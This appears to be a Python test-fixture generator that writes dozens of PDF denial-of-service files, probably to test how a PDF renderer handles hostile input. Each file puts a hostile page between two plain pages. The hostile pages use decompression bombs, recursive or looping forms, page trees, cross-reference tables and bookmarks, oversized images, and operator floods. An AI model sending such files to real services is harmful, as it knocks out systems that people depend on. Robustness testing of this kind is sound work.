"""PDFs of a few bytes that take all memory, never end, or loop: a page of words before and after the hostile one.

Each function writes one file; its name says what the page, or the file, does.
"""

import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

BEFORE, AFTER = "Harbour words before the bomb", "Ferry words after the bomb"
PAGE = "/MediaBox [0 0 612 792]"


def deflated(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def zeros(megabytes: int, byte: bytes = b"0") -> bytes:
    """So many megabytes of one byte, compressed without ever being there whole."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(byte * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + bytes(4)  # the sum at the end is wrong, and comes too late


def stream(data: bytes, entries: str = "") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%b\nendstream" % (entries.encode(), len(data), data)


def packed(data: bytes, entries: str = "") -> bytes:
    return stream(deflated(data), f"{entries} /Filter /FlateDecode")


def assembled(objects: Sequence[bytes]) -> bytes:
    parts, places, at = [b"%PDF-1.7\n"], [], 9
    for number, content in enumerate(objects, 1):
        places.append(at)
        parts.append(b"%d 0 obj\n%b\nendobj\n" % (number, content))
        at += len(parts[-1])
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts += [b"%010d 00000 n \n" % place for place in places]
    parts.append(b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at))
    return b"".join(parts)


def bomb(content: bytes, *extra: bytes, resources: str = "", page: str = PAGE, catalog: str = "") -> bytes:
    """Three pages, the second of which is hostile: `content` is its stream object, `extra` are objects from 10 on."""
    words = [b"BT /F1 12 Tf 72 700 Td (%b) Tj ET" % text.encode() for text in (BEFORE, AFTER)]
    plain = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources <</Font <</F1 6 0 R>>>>>>"
    hostile = f"<</Type /Page /Parent 2 0 R {page} /Contents 9 0 R /Resources <</Font <</F1 6 0 R>> {resources}>>>>"
    return assembled(
        [
            f"<</Type /Catalog /Pages 2 0 R {catalog}>>".encode(),
            b"<</Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3>>",
            plain % 7,
            hostile.encode(),
            plain % 8,
            b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
            *map(stream, words),
            content,
            *extra,
        ]
    )


def form(content: bytes, resources: str = "", more: str = "") -> bytes:
    entries = f"/Type /XObject /Subtype /Form /BBox [0 0 612 792] {more} /Resources <<{resources}>>"
    return packed(content, entries) if len(content) > 200 else stream(content, entries)


def nested(leaf: bytes, levels: int = 12, times: int = 12, more: str = "") -> bytes:
    """Forms that each draw the next one a dozen times."""
    draws = b"/X Do " * times
    forms = [form(draws, f"/XObject <</X {11 + level} 0 R>>", more) for level in range(levels)]
    last = form(leaf, "/Font <</F1 6 0 R>>", more)
    return bomb(stream(draws), *forms, last, resources="/XObject <</X 10 0 R>>")


def image(width: int, height: int, data: bytes, entries: str) -> bytes:
    head = f"/Type /XObject /Subtype /Image /Width {width} /Height {height} {entries}"
    return bomb(stream(b"600 0 0 700 0 0 cm /I Do"), stream(data, head), resources="/XObject <</I 10 0 R>>")


RGB = "/ColorSpace /DeviceRGB /BitsPerComponent 8"
FLATE = "/Filter /FlateDecode"
TEXT = b"BT /F1 9 Tf 9 9 Td (words words words) Tj ET "
JBIG2 = bytes.fromhex("00000000300001000000130000fffe0000fffe0000000000000000000000")


def pattern(content: bytes, entries: str, resources: str = "") -> bytes:
    kind = f"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 {entries} /Resources <<{resources}>>"
    paint = stream(b"/Pattern cs /P scn 0 0 612 792 re f")
    return bomb(paint, stream(content, kind), resources="/Pattern <</P 10 0 R>>")


def shading(entries: str, data: bytes | None = None, *extra: bytes) -> bytes:
    head = f"/ColorSpace /DeviceRGB {entries}"
    body = f"<<{head}>>".encode() if data is None else stream(data, head)
    return bomb(stream(b"/S sh"), body, *extra, resources="/Shading <</S 10 0 R>>")


def to_unicode(cmap: bytes, text: bytes = b"(AAAAAAAAAA) Tj " * 2000) -> bytes:
    font = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 11 0 R>>"
    return bomb(packed(b"BT /F2 9 Tf 9 9 Td " + text + b"ET"), font, packed(cmap), resources="/Font <</F2 10 0 R>>")


def type3(glyph: bytes, resources: str) -> bytes:
    font = (
        "<</Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 "
        f"/Widths [9] /Encoding <</Differences [65 /a]>> /CharProcs <</a 11 0 R>> /Resources <<{resources}>>>>"
    )
    text = stream(b"BT /F2 1 Tf (AAAAAAAAAA) Tj ET")
    return bomb(text, font.encode(), stream(glyph), resources="/Font <</F2 10 0 R>>")


def pages(kids: str, count: int, *extra: bytes) -> bytes:
    root = f"<</Type /Pages /Kids [{kids}] /Count {count}>>".encode()
    return assembled([b"<</Type /Catalog /Pages 2 0 R>>", root, *extra])


def cross_references(entries: str, data: bytes) -> bytes:
    pdf = bomb(stream(TEXT))
    at = len(pdf)
    table = stream(data, f"/Type /XRef /Root 1 0 R /W [1 4 2] {entries.format(at=at)}")
    return pdf + b"90 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, at)


def object_streams(data: bytes, entries: str) -> bytes:
    """The hostile page's fonts lie in an object stream."""
    pdf = bomb(stream(TEXT), stream(data, f"/Type /ObjStm {entries}"), resources="/Font <</F1 50 0 R>>")
    at = len(pdf)
    rows = b"".join(b"\x02\x00\x00\x00\x0a" + bytes([0, i]) for i in range(20))
    prev = int(pdf.split(b"startxref\n")[-1].split()[0])
    table = stream(rows, f"/Type /XRef /Root 1 0 R /W [1 4 2] /Size 70 /Index [50 20] /Prev {prev}")
    return pdf + b"90 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, at)


def chained_pages(depth: int) -> bytes:
    nodes = [f"<</Type /Pages /Parent {2 + i} 0 R /Kids [{4 + i} 0 R] /Count 1>>".encode() for i in range(depth)]
    leaf = f"<</Type /Page /Parent {2 + depth} 0 R /MediaBox [0 0 9 9]>>".encode()
    return pages("3 0 R", 1, *nodes, leaf)


FLOOD = 30_000
_LEAF_PATH = b"0 0 m " + b"9 9 l 3 7 l " * 50 + b"S "
_GROUP = "/Group <</S /Transparency /I true>>"
_ONE_PAGE = (
    b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources <</XObject <</X 5 0 R>>>>>>"
)
_LOOP = form(b"/X Do /X Do /X Do", "/XObject <</X 10 0 R>>")
_POSTSCRIPT = b"{ " + b"dup mul sqrt exch sin exch " * 3000 + b"0 }"
_RANGE = b"begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange "
_STRING = b"<" + b"0041" * 12_000 + b">"

PDFS: dict[str, Callable[[], bytes]] = {
    "form-loop": lambda: bomb(stream(b"/X Do"), _LOOP, resources="/XObject <</X 10 0 R>>"),
    "nested-forms": lambda: nested(b"0 0 m 9 9 l S"),
    "nested-forms-of-text": lambda: nested(TEXT * 20, levels=7),
    "nested-forms-of-paths": lambda: nested(_LEAF_PATH, levels=7),
    "nested-groups": lambda: nested(b"0 0 m 9 9 l S", times=3, more=_GROUP),
    "nested-forms-of-nothing": lambda: nested(b"", levels=20),
    "path-flood": lambda: bomb(packed(b"0 0 m " + b"9 9 l 3 7 l " * (100 * FLOOD) + b"S")),
    "curve-flood": lambda: bomb(packed(b"0 0 m " + b"9 9 5 5 3 7 c " * (60 * FLOOD) + b"S")),
    "rectangle-flood": lambda: bomb(packed(b"0 0 600 700 re f " * (60 * FLOOD))),
    "text-flood": lambda: bomb(packed(b"BT /F1 9 Tf 9 9 Td " + b"(words words words) Tj " * (60 * FLOOD) + b"ET")),
    "text-on-one-spot": lambda: bomb(packed(TEXT * (20 * FLOOD))),
    "one-long-string": lambda: bomb(packed(b"BT /F1 1 Tf 9 9 Td (" + b"a " * (300 * FLOOD) + b") Tj ET")),
    "deflated-zeros": lambda: bomb(stream(zeros(4000), FLATE)),
    "deflated-twice": lambda: bomb(stream(deflated(zeros(8000)), "/Filter [/FlateDecode /FlateDecode]")),
    "deflated-three-times": lambda: bomb(stream(deflated(zeros(2000), 2), "/Filter [" + "/FlateDecode " * 3 + "]")),
    "run-lengths": lambda: bomb(stream(deflated(b"\x81 " * 9_000_000), "/Filter [/FlateDecode /RunLengthDecode]")),
    "many-filters": lambda: bomb(stream(b"00>", "/Filter [" + "/ASCIIHexDecode " * 100_000 + "]")),
    "predictor": lambda: bomb(stream(zeros(500), FLATE + " /DecodeParms <</Predictor 15 /Columns 2147483647>>")),
    "predictor-colours": lambda: bomb(
        stream(zeros(500), FLATE + " /DecodeParms <</Predictor 2 /Colors 32 /BitsPerComponent 16 /Columns 60000000>>")
    ),
    "object-stream": lambda: object_streams(zeros(3000, b" "), f"/N 100000000 /First 8 {FLATE}"),
    "object-stream-loop": lambda: object_streams(b"50 0 " * 20, "/N 20 /First 100 /Extends 10 0 R"),
    "cross-reference-loop": lambda: cross_references("/Size 91 /Index [0 0] /Prev {at}", b""),
    "cross-reference-size": lambda: cross_references("/Size 2147483647 /Index [0 2147483000]", b"\0" * 70),
    "cross-reference-flood": lambda: cross_references(f"/Size 4000000 {FLATE}", zeros(30, b"\x01")),
    "page-tree-loop": lambda: pages("2 0 R", 1000),
    "page-tree-deep": lambda: chained_pages(FLOOD),
    "page-tree-wide": lambda: pages("3 0 R " * (10 * FLOOD), 10 * FLOOD, b"<</Type /Page /Parent 2 0 R>>"),
    "page-tree-of-bombs": lambda: pages(
        "3 0 R " * 400,
        400,
        _ONE_PAGE,
        stream(b"/X Do"),
        form(b"/X Do " * 9, "/XObject <</X 6 0 R>>"),
        *(form(b"/X Do " * 9, f"/XObject <</X {7 + i} 0 R>>") for i in range(20)),
    ),
    "huge-box": lambda: bomb(stream(TEXT), page="/MediaBox [0 0 1e9 1e9]"),
    "huge-unit": lambda: bomb(stream(TEXT), page=PAGE + " /UserUnit 1e9"),
    "thin-box": lambda: bomb(stream(TEXT), page="/MediaBox [0 0 0.01 99999]"),
    "jbig2": lambda: image(65_534, 65_534, JBIG2, "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode"),
    "jpeg": lambda: image(
        65_500,
        65_500,
        bytes.fromhex("ffd8ffc00011 08 ffdc ffdc 03 011100 021101 031101".replace(" ", "")) + b"\0" * 99,
        f"{RGB} /Filter /DCTDecode",
    ),
    "fax": lambda: image(
        60_000,
        60_000,
        b"\xff" * 2000,
        "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode "
        "/DecodeParms <</K -1 /Columns 60000 /Rows 60000>>",
    ),
    "flat-image": lambda: image(30_000, 30_000, deflated(zeros(2700)), f"{RGB} /Filter [/FlateDecode /FlateDecode]"),
    "wide-image": lambda: image(2_000_000_000, 1, zeros(900), f"{RGB} {FLATE}"),
    "inline-image": lambda: bomb(packed(b"BI /W 50000 /H 50000 /CS /RGB /BPC 8 ID " + b"\0" * 50_000_000 + b" EI")),
    "mask-loop": lambda: image(500, 500, zeros(1), f"{RGB} {FLATE} /SMask 10 0 R"),
    "many-images": lambda: bomb(
        packed(b"q 600 0 0 700 0 0 cm /I Do Q " * 2000),
        stream(zeros(75), f"/Type /XObject /Subtype /Image /Width 5000 /Height 5000 {RGB} {FLATE}"),
        resources="/XObject <</I 10 0 R>>",
    ),
    "tiny-tiles": lambda: pattern(b"0 0 1 1 re f", "/BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"),
    "pattern-loop": lambda: pattern(
        b"/Pattern cs /P scn 0 0 9 9 re f", "/BBox [0 0 9 9] /XStep 1 /YStep 1", "/Pattern <</P 10 0 R>>"
    ),
    "shading-function": lambda: shading(
        "/ShadingType 1 /Domain [0 1 0 1] /Matrix [612 0 0 792 0 0] /Function 11 0 R",
        None,
        stream(_POSTSCRIPT, "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]"),
    ),
    "shading-mesh": lambda: shading(
        "/ShadingType 4 /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 "
        f"/Decode [0 612 0 792 0 1 0 1 0 1] {FLATE}",
        zeros(300, b"\0"),
    ),
    "shading-patches": lambda: shading(
        "/ShadingType 7 /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 "
        f"/Decode [0 612 0 792 0 1 0 1 0 1] {FLATE}",
        deflated((b"\0" + bytes(range(44))) * 1_000_000),
    ),
    "sampled-function": lambda: shading(
        "/ShadingType 2 /Coords [0 0 612 792] /Function 11 0 R",
        None,
        stream(b"", "/FunctionType 0 /Domain [0 1] /Range [0 1 0 1 0 1] /Size [2147483647] /BitsPerSample 32"),
    ),
    "glyph-loop": lambda: type3(b"9 0 d0 BT /F2 1 Tf (AAAAAAAAAA) Tj ET", "/Font <</F2 10 0 R>>"),
    "glyph-of-forms": lambda: nested(b"BT /F1 1 Tf (AAAAAAAAAAAAAAAAAAAA) Tj ET" * 20, levels=9),
    "unicode-range": lambda: to_unicode(_RANGE + b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap"),
    "unicode-strings": lambda: to_unicode(_RANGE + b"1 beginbfchar <41> " + _STRING + b" endbfchar endcmap"),
    "unicode-flood": lambda: to_unicode(
        _RANGE + b"100 beginbfrange " + b"<00000000> <0000ffff> <0041> " * 20_000 + b"endbfrange endcmap"
    ),
    "brackets": lambda: bomb(packed(b"[" * 5_000_000)),
    "saved-states": lambda: bomb(packed(b"q " * 20_000_000)),
    "clips": lambda: bomb(packed(b"0 0 600 700 re 9 9 m 600 9 l 300 700 l h W n " * 300_000)),
    "marked-content": lambda: bomb(packed(b"/P <</MCID 0>> BDC " * 5_000_000)),
    "dashes": lambda: bomb(packed(b"[0.0001 0.0001] 0 d 0 0 m 600 700 l 0 700 l S " * 500)),
    "wide-strokes": lambda: bomb(packed(b"1e9 w 1e9 M 0 0 m 9 9 l 0 1e-9 l S " * 500_000)),
    "contents-flood": lambda: bomb(b"[" + b"7 0 R " * 400_000 + b"]"),
    "annotations": lambda: bomb(
        stream(TEXT),
        b"<</Type /Annot /Subtype /Stamp /Rect [0 0 600 700] /AP <</N 11 0 R>>>>",
        form(b"/X Do " * 30, "/XObject <</X 12 0 R>>"),
        *(form(b"/X Do " * 30, f"/XObject <</X {13 + i} 0 R>>") for i in range(8)),
        page=PAGE + " /Annots [" + "10 0 R " * 5000 + "]",
    ),
    "label-loop": lambda: bomb(
        stream(TEXT), b"<</Kids [10 0 R 10 0 R]>>", catalog="/PageLabels 10 0 R /Outlines 10 0 R /Names 10 0 R"
    ),
    "labels-in-themselves": lambda: bomb(stream(TEXT), b"<</Kids [10 0 R]>>", catalog="/PageLabels 10 0 R"),
    "bookmark-loop": lambda: bomb(
        stream(TEXT),
        b"<</First 11 0 R>>",
        b"<</Title (a) /Dest [4 0 R /Fit] /First 12 0 R /Next 12 0 R>>",
        b"<</Title (b) /Dest [4 0 R /Fit] /First 11 0 R /Next 11 0 R>>",
        catalog="/Outlines 10 0 R",
    ),
    "bookmark-flood": lambda: bomb(
        stream(TEXT),
        b"<</First 11 0 R>>",
        *(b"<</Title (%d) /Dest (x) /First %d 0 R /Next %d 0 R>>" % (i, 12 + i, 12 + 2 * i) for i in range(10 * FLOOD)),
        catalog="/Outlines 10 0 R /Names <</Dests 10 0 R>>",
    ),
    "layers": lambda: bomb(
        packed(b"/OC /L BDC 0 0 9 9 re f EMC " * 500_000),
        b"<</Type /OCMD /VE [/And 11 0 R 11 0 R]>>",
        b"[/And 11 0 R 11 0 R 11 0 R]",
        resources="/Properties <</L 10 0 R>>",
    ),
}
"""What writes each file, by its name without its suffix."""


def write_pdfs(folder: Path) -> None:
    for name, write in PDFS.items():
        (folder / f"{name}.pdf").write_bytes(write())
